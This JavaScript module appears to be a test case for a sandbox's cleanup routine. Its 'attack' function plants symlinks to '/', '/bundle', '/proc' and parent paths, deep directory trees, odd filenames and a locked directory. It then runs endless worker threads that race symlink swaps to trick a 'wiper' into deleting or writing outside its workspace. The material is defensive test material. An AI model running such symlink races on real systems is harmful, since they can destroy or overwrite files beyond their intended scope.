const fs = require('node:fs');
const { Worker } = require('node:worker_threads');

const RACE = `
const fs = require('node:fs');
const [place] = require('node:worker_threads').workerData;
for (let n = 0; ; n++) {
  try {
    fs.mkdirSync(place + '/swap');
    fs.writeFileSync(place + '/swap/file', 'x');
    fs.renameSync(place + '/swap', place + '/gone' + (n % 50));
    fs.symlinkSync(['/', '/bundle', '/runtime', '/scratch', '/proc/self/root'][n % 5], place + '/swap');
    fs.unlinkSync(place + '/swap');
    fs.rmSync(place + '/gone' + (n % 50), { recursive: true, force: true });
  } catch {}
}`;

exports.attack = async (t) => {
  // What a wiper could be led to: links to everything, deep directories, names that are hard to remove.
  let deep = '.';
  for (let n = 0; n < 200; n++) fs.mkdirSync((deep += `/d${n}`));
  for (const [n, target] of ['/', '/bundle', '/runtime', '/dev', '/proc', '/scratch', '..', '../..'].entries()) fs.symlinkSync(target, `link${n}`);
  fs.writeFileSync('\u0001\n\t odd', 'x');
  fs.mkdirSync('locked/inner', { recursive: true });
  fs.chmodSync('locked', 0);
  for (let n = 0; n < 2; n++) new Worker(RACE, { eval: true, workerData: [process.cwd()] }).on('error', () => {});
  await lib.sleep(300);
  // The workers go on until they are killed.
  t.try('lead the wiper to the bundle', () => fs.writeFileSync('link1/planted.js', 'x'));
};
